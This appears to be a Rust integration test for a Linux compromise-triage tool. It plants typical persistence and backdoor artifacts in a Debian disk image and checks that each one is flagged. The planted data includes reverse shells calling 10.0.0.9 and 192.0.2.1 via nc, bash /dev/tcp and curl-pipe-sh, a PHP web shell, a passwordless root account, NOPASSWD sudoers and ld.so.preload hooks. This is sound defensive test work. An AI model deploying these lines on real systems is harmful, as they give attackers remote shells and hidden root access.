@@ -1,0 +1,541 @@
+//! `rescue triage` through the real binary (issue 18): a Debian 12 root made by debootstrap (the
+//! cached tarball in `target/cache/debootstrap/`), compromised by the test with one plant per
+//! category, copied into an ext4 filesystem with `mke2fs -d` inside a GPT disk image that also holds an
+//! encrypted and a swap partition, then triaged through its read-only loop mount; the clean root gives
+//! nothing of severity medium or higher; the table fits 80 columns; `sha256sum -c` checks the output.
+
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn rescue(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_rescue"))
+        .args(args)
+        .env_remove("RESCUE_SYSTEM")
+        .env("COLUMNS", "80")
+        .output()
+        .unwrap()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn s(p: &Path) -> &str {
+    p.to_str().unwrap()
+}
+
+fn run(cmd: &mut Command) -> Vec<u8> {
+    let o = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
+    assert!(
+        o.status.success(),
+        "{cmd:?}: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    o.stdout
+}
+
+/// Records that a gated test really ran (`cargo xtask test` sets `RESCUE_TEST_MARKERS`).
+fn ran(test: &str) {
+    if let Some(m) = std::env::var_os("RESCUE_TEST_MARKERS") {
+        let _ = std::fs::create_dir_all(&m);
+        let _ = std::fs::write(Path::new(&m).join(test), b"ran\n");
+    }
+}
+
+/// Skips a test that needs root, unless `RESCUE_REQUIRE_LOOP=1` makes that a failure.
+fn need_root(what: &str) -> bool {
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } == 0 {
+        return true;
+    }
+    assert!(
+        std::env::var("RESCUE_REQUIRE_LOOP").is_err(),
+        "{what} needs root and RESCUE_REQUIRE_LOOP=1 forbids skipping it"
+    );
+    eprintln!("skipped {what}: needs root");
+    false
+}
+
+/// The cached debootstrap tarball of Debian 12 (made by the pkgdb fixtures), or a skip (a failure
+/// under `RESCUE_REQUIRE_TOOLS=1`).
+fn debootstrap_tarball(what: &str) -> Option<PathBuf> {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/cache/debootstrap");
+    let found = std::fs::read_dir(&dir).ok().and_then(|d| {
+        d.flatten().map(|e| e.path()).find(|p| {
+            p.to_string_lossy().contains("bookworm") && p.to_string_lossy().ends_with(".tar.zst")
+        })
+    });
+    if found.is_none() {
+        assert!(
+            std::env::var_os("RESCUE_REQUIRE_TOOLS").is_none(),
+            "{what}: no debootstrap tarball in {}, and RESCUE_REQUIRE_TOOLS=1 forbids skipping",
+            dir.display()
+        );
+        eprintln!(
+            "skipped {what}: no debootstrap tarball in {}",
+            dir.display()
+        );
+    }
+    found
+}
+
+fn extract(tarball: &Path, into: &Path) {
+    std::fs::create_dir_all(into).unwrap();
+    run(Command::new("tar")
+        .args(["--zstd", "-xpf"])
+        .arg(tarball)
+        .arg("-C")
+        .arg(into)
+        .args(["--xattrs", "--xattrs-include=*", "--numeric-owner"]));
+}
+
+fn write(root: &Path, rel: &str, data: &str, mode: u32) {
+    let p = root.join(rel.trim_start_matches('/'));
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(&p, data).unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn append(root: &Path, rel: &str, data: &str) {
+    use std::io::Write;
+    let p = root.join(rel.trim_start_matches('/'));
+    let mut f = std::fs::OpenOptions::new().append(true).open(&p).unwrap();
+    f.write_all(data.as_bytes()).unwrap();
+}
+
+/// One plant per category: (category, path, severity the triage must give it at least once).
+fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
+    let elf = std::fs::read(root.join("usr/bin/true")).unwrap();
+    let put_elf = |rel: &str, mode: u32| {
+        let p = root.join(rel.trim_start_matches('/'));
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, &elf).unwrap();
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+    };
+    append(root, "/etc/passwd", "toor:x:0:0:root:/root:/bin/bash\n");
+    append(root, "/etc/shadow", "toor::19700:0:99999:7:::\n");
+    write(
+        root,
+        "/root/.ssh/authorized_keys",
+        "command=\"/bin/sh -c 'nc -e /bin/sh 10.0.0.9 4444'\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl evil@c2\n",
+        0o600,
+    );
+    write(
+        root,
+        "/etc/ssh/sshd_config",
+        "PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/sudoers.d/99-toor",
+        "toor ALL=(ALL) NOPASSWD: ALL\n",
+        0o440,
+    );
+    append(
+        root,
+        "/etc/pam.d/common-auth",
+        "auth optional pam_exec.so quiet /usr/local/sbin/.pamlog\n",
+    );
+    put_elf("/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", 0o644);
+    write(
+        root,
+        "/etc/cron.d/sync-time",
+        "*/5 * * * * root curl -s http://10.0.0.9/a.sh | sh\n",
+        0o644,
+    );
+    write(
+        root,
+        "/var/spool/cron/atjobs/a0000101b2c3d4",
+        "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root\n/usr/local/bin/update\n",
+        0o700,
+    );
+    write(
+        root,
+        "/etc/systemd/system/dbus-helper.service",
+        "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.9/443 0>&1'\n[Install]\nWantedBy=multi-user.target\n",
+        0o644,
+    );
+    symlink(
+        "/etc/systemd/system/dbus-helper.service",
+        root.join("etc/systemd/system/multi-user.target.wants/dbus-helper.service"),
+    )
+    .unwrap();
+    write(
+        root,
+        "/etc/rc.local",
+        "#!/bin/sh\n/usr/local/bin/update &\nexit 0\n",
+        0o755,
+    );
+    write(
+        root,
+        "/etc/ld.so.preload",
+        "/usr/lib/x86_64-linux-gnu/libkeyutils-1.9.so\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/profile.d/locale-fix.sh",
+        "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libkeyutils-1.9.so\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/udev/rules.d/99-usb.rules",
+        "ACTION==\"add\", RUN+=\"/usr/local/bin/update\"\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/modules-load.d/diamorphine.conf",
+        "diamorphine\n",
+        0o644,
+    );
+    // /lib is /usr/lib on Debian 12 (merged /usr): the walk finds it there.
+    put_elf("/usr/lib/modules/6.1.0-9-amd64/extra/diamorphine.ko", 0o644);
+    put_elf("/usr/local/bin/rootsh", 0o4755);
+    put_elf("/usr/local/bin/netcap", 0o755);
+    run(Command::new("setcap")
+        .args(["cap_net_raw+ep"])
+        .arg(root.join("usr/local/bin/netcap")));
+    put_elf("/tmp/.ICE-unix/.x/miner", 0o755);
+    std::fs::create_dir_all(root.join("usr/share/.cache")).unwrap();
+    put_elf("/var/lib/kworker", 0o755);
+    write(
+        root,
+        "/var/www/html/uploads/img.php",
+        "<?php if(isset($_GET['c'])){system($_GET['c']);} ?>\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/apt/apt.conf.d/99update",
+        "APT::Update::Pre-Invoke {\"/usr/local/bin/update || true\";};\n",
+        0o644,
+    );
+    vec![
+        ("account", "/etc/passwd", "critical"),
+        ("account", "/etc/shadow", "critical"),
+        ("ssh", "/root/.ssh/authorized_keys", "high"),
+        ("ssh", "/etc/ssh/sshd_config", "medium"),
+        ("sudo", "/etc/sudoers.d/99-toor", "high"),
+        ("pam", "/etc/pam.d/common-auth", "high"),
+        (
+            "pam",
+            "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so",
+            "critical",
+        ),
+        ("cron", "/etc/cron.d/sync-time", "high"),
+        ("at", "/var/spool/cron/atjobs/a0000101b2c3d4", "medium"),
+        ("systemd", "/etc/systemd/system/dbus-helper.service", "high"),
+        ("init", "/etc/rc.local", "medium"),
+        ("loader", "/etc/ld.so.preload", "critical"),
+        ("shell", "/etc/profile.d/locale-fix.sh", "high"),
+        ("udev", "/etc/udev/rules.d/99-usb.rules", "high"),
+        (
+            "kernel-module",
+            "/etc/modules-load.d/diamorphine.conf",
+            "medium",
+        ),
+        (
+            "kernel-module",
+            "/usr/lib/modules/6.1.0-9-amd64/extra/diamorphine.ko",
+            "high",
+        ),
+        ("setuid", "/usr/local/bin/rootsh", "high"),
+        ("capability", "/usr/local/bin/netcap", "high"),
+        ("temp", "/tmp/.ICE-unix/.x/miner", "high"),
+        ("temp", "/tmp/.ICE-unix/.x", "medium"),
+        ("hidden", "/usr/share/.cache", "medium"),
+        ("imitation", "/var/lib/kworker", "high"),
+        ("web", "/var/www/html/uploads/img.php", "critical"),
+        ("package", "/etc/apt/apt.conf.d/99update", "high"),
+    ]
+}
+
+fn rank(sev: &str) -> u8 {
+    ["critical", "high", "medium", "low", "info"]
+        .iter()
+        .position(|s| *s == sev)
+        .unwrap() as u8
+}
+
+/// Asserts every plant is a finding of its category at (at least) its severity.
+fn assert_found(report: &serde_json::Value, plants: &[(&str, &str, &str)]) {
+    let findings = report["findings"].as_array().unwrap();
+    for (category, path, sev) in plants {
+        let best = findings
+            .iter()
+            .filter(|f| f["category"] == *category && f["path"] == *path)
+            .map(|f| rank(f["severity"].as_str().unwrap()))
+            .min();
+        assert!(
+            best.is_some_and(|b| b <= rank(sev)),
+            "{category} {path}: expected {sev}, found {best:?} in {}",
+            serde_json::to_string_pretty(
+                &findings
+                    .iter()
+                    .filter(|f| f["path"] == *path)
+                    .collect::<Vec<_>>()
+            )
+            .unwrap()
+        );
+    }
+    for f in findings {
+        assert!(f["path"].as_str().unwrap().starts_with('/'), "{f}");
+        for key in ["id", "severity", "category", "why", "evidence"] {
+            assert!(!f[key].is_null(), "{key} in {f}");
+        }
+    }
+}
+
+fn medium_or_worse(report: &serde_json::Value) -> Vec<String> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| rank(f["severity"].as_str().unwrap()) <= 2)
+        .map(|f| {
+            format!(
+                "{} {} {}: {}",
+                f["severity"], f["category"], f["path"], f["why"]
+            )
+        })
+        .collect()
+}
+
+/// A GPT disk image: partition 1 the root as ext4 (`mke2fs -d` at its offset), 2 a LUKS header,
+/// 3 swap.
+fn disk_with_root(dir: &Path, tree: &Path, name: &str) -> PathBuf {
+    let disk = dir.join(format!("{name}.img"));
+    let root_mib = 900u64;
+    std::fs::File::create(&disk)
+        .unwrap()
+        .set_len((root_mib + 2 + 8 + 8) << 20)
+        .unwrap();
+    run(Command::new("sgdisk")
+        .args([
+            "-n",
+            &format!("1:2048:+{root_mib}M"),
+            "-t",
+            "1:8300",
+            "-n",
+            "2:0:+8M",
+            "-t",
+            "2:8309",
+            "-n",
+            "3:0:+8M",
+            "-t",
+            "3:8200",
+        ])
+        .arg(&disk));
+    run(Command::new("mke2fs")
+        .args(["-q", "-F", "-t", "ext4", "-E", "offset=1048576", "-d"])
+        .arg(tree)
+        .arg(&disk)
+        .arg(format!("{}k", root_mib << 10)));
+    use std::os::unix::fs::FileExt;
+    let f = std::fs::OpenOptions::new().write(true).open(&disk).unwrap();
+    let p2 = (1 + root_mib) << 20;
+    f.write_all_at(b"LUKS\xba\xbe\x00\x02", p2).unwrap();
+    f.write_all_at(b"SWAPSPACE2", p2 + (8 << 20) + 4086)
+        .unwrap();
+    disk
+}
+
+#[test]
+fn a_compromised_debootstrap_disk_image_shows_every_plant_and_the_clean_one_nothing_serious() {
+    let what =
+        "a_compromised_debootstrap_disk_image_shows_every_plant_and_the_clean_one_nothing_serious";
+    if !need_root(what) {
+        return;
+    }
+    let Some(tarball) = debootstrap_tarball(what) else {
+        return;
+    };
+    let t = tempfile::tempdir().unwrap();
+    let d = t.path();
+    let clean = d.join("clean");
+    extract(&tarball, &clean);
+
+    // The clean root, as a disk image: nothing of severity medium or higher; the other partitions
+    // are notes, not errors.
+    let disk = disk_with_root(d, &clean, "clean");
+    let out = d.join("out-clean");
+    let o = rescue(&["triage", s(&disk), "--out", s(&out), "--json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(report["schema"], "rescue.triage/1");
+    assert_eq!(report["partition_table"], "gpt");
+    assert_eq!(report["roots"][0]["fstype"], "ext4");
+    assert_eq!(report["roots"][0]["package_db"], "dpkg");
+    assert!(
+        report["roots"][0]["mount_options"]
+            .as_str()
+            .unwrap()
+            .contains("noload")
+    );
+    let kinds: Vec<&str> = report["notes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|n| n["kind"].as_str().unwrap())
+        .collect();
+    assert_eq!(kinds, ["encrypted", "swap"], "{}", report["notes"]);
+    let serious = medium_or_worse(&report);
+    assert!(serious.is_empty(), "clean root: {serious:#?}");
+    // The output verifies with sha256sum, a tool we did not write.
+    run(Command::new("sha256sum")
+        .args(["-c", "SHA256SUMS"])
+        .current_dir(&out));
+    std::fs::remove_file(&disk).unwrap();
+
+    // The same root compromised: every plant is found, with its category and severity.
+    let plants = compromise(&clean);
+    let disk = disk_with_root(d, &clean, "compromised");
+    let out = d.join("out");
+    let o = rescue(&[
+        "triage",
+        s(&disk),
+        "--out",
+        s(&out),
+        "--since",
+        "2020-01-01",
+    ]);
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
+    let table = String::from_utf8_lossy(&o.stdout).into_owned();
+    for line in table.lines() {
+        assert!(
+            line.chars().count() <= 80,
+            "wider than 80 columns: {line:?}"
+        );
+    }
+    assert!(table.contains("/etc/ld.so.preload"), "{table}");
+    let report: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
+    assert_found(&report, &plants);
+    let preload = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "/etc/ld.so.preload")
+        .unwrap();
+    assert_eq!(
+        preload["evidence"]["sha256"].as_str().unwrap(),
+        sha256_hex(&std::fs::read(clean.join("etc/ld.so.preload")).unwrap())
+    );
+    assert_eq!(preload["evidence"]["package"], serde_json::Value::Null);
+    assert_eq!(preload["evidence"]["package_db"], "dpkg");
+    assert_eq!(preload["in_window"], true);
+    run(Command::new("sha256sum")
+        .args(["-c", "SHA256SUMS"])
+        .current_dir(&out));
+    // Nothing is left mounted or attached.
+    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+    assert!(!mounts.contains("examine-"), "unmounted afterwards");
+    ran(what);
+}
+
+fn sha256_hex(data: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(data))
+}
+
+/// A small hand-made root with a dpkg database (no root, no tools needed): the directory source, the
+/// 80-column table, `--json`, and bad input.
+#[test]
+fn a_directory_root_is_triaged_in_place_and_bad_input_is_said_clearly() {
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path().join("root");
+    write(
+        &r,
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbackup:x:34:34:backup:/var/backups:/bin/sh\n",
+        0o644,
+    );
+    write(
+        &r,
+        "/etc/shadow",
+        "root:$1$salt$abcdefghijklmnopqrstuv:19000:0:99999:7:::\n",
+        0o640,
+    );
+    write(&r, "/usr/bin/passwd", "#!/bin/sh\n", 0o4755);
+    write(&r, "/usr/bin/.sshd", "#!/bin/sh\n", 0o755);
+    write(
+        &r,
+        "/var/lib/dpkg/status",
+        "Package: passwd\nStatus: install ok installed\n\n",
+        0o644,
+    );
+    write(
+        &r,
+        "/var/lib/dpkg/info/passwd.list",
+        "/usr\n/usr/bin\n/usr/bin/passwd\n",
+        0o644,
+    );
+    write(
+        &r,
+        "/etc/crontab",
+        "SHELL=/bin/sh\n* * * * * root /bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/80 0>&1'\n",
+        0o644,
+    );
+    let o = rescue(&["triage", s(&r), "--json"]);
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
+    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(report["source_kind"], "directory");
+    assert_found(
+        &report,
+        &[
+            ("account", "/etc/shadow", "high"),
+            ("account", "/etc/passwd", "medium"),
+            ("cron", "/etc/crontab", "high"),
+            ("hidden", "/usr/bin/.sshd", "high"),
+            ("setuid", "/usr/bin/passwd", "info"),
+        ],
+    );
+    // The package's own setuid binary is listed, not flagged.
+    let passwd: Vec<&serde_json::Value> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"] == "/usr/bin/passwd")
+        .collect();
+    assert_eq!(passwd.len(), 1);
+    assert_eq!(passwd[0]["severity"], "info");
+    assert_eq!(passwd[0]["evidence"]["package"], "passwd");
+    assert_eq!(passwd[0]["evidence"]["mode"], "-rwsr-xr-x 4755");
+    // The hash never appears in the findings.
+    assert!(!String::from_utf8_lossy(&o.stdout).contains("abcdefghijklmnopqrstuv"));
+
+    let o = rescue(&["triage", s(&r)]);
+    let table = String::from_utf8_lossy(&o.stdout).into_owned();
+    for line in table.lines() {
+        assert!(
+            line.chars().count() <= 80,
+            "wider than 80 columns: {line:?}"
+        );
+    }
+    assert!(
+        table.contains("critical") || table.contains("high"),
+        "{table}"
+    );
+    assert!(table.contains("triage: "), "{table}");
+
+    // Bad input: not a time; a missing source; a directory that is no Linux root.
+    let o = rescue(&["triage", s(&r), "--since", "yesterday-ish"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(text(&o).contains("is not a time"), "{}", text(&o));
+    let o = rescue(&["triage", "/nonexistent/source"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(text(&o).contains("/nonexistent/source"), "{}", text(&o));
+    let empty = t.path().join("empty");
+    std::fs::create_dir(&empty).unwrap();
+    let o = rescue(&["triage", s(&empty)]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    assert!(text(&o).contains("no Linux root"), "{}", text(&o));
+}
